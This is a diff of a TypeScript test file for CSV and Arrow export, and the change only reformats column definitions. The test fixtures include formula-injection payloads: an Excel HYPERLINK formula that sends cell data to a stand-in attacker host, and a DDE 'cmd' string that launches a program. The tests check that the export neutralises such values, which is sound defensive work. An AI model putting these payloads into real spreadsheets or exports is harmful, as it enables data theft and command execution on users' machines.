@@ -4,7 +4,11 @@ import { toArrow, toCsv } from './export';
 import type { QueryResult } from './db';
 
 const result: QueryResult = {
-	columns: [{ name: 'teldatum', kind: 'date' }, { name: 'deelname_sbo_pct', kind: 'number' }, { name: 'kring', kind: 'string' }],
+	columns: [
+		{ name: 'teldatum', kind: 'date' },
+		{ name: 'deelname_sbo_pct', kind: 'number' },
+		{ name: 'kring', kind: 'string' }
+	],
 	rows: [
 		{ teldatum: '2024-10-01', deelname_sbo_pct: 2.26, kring: 'Kring "Noord"; oud' },
 		{ teldatum: '2025-10-01', deelname_sbo_pct: null, kring: 'Kring Zuid' }
@@ -31,7 +35,10 @@ describe('export formats', () => {
 	});
 	it('neutralises text that Excel would run as a formula, and leaves numbers alone (-3 stays -3)', () => {
 		const names: QueryResult = {
-			columns: [{ name: 'naam', kind: 'string' }, { name: 'verschil', kind: 'number' }],
+			columns: [
+				{ name: 'naam', kind: 'string' },
+				{ name: 'verschil', kind: 'number' }
+			],
 			rows: [
 				{ naam: '=HYPERLINK("https://aanvaller.example/?"&A1,"Klik")', verschil: -3 },
 				{ naam: "+cmd|' /C calc'!A0", verschil: -1.5 },
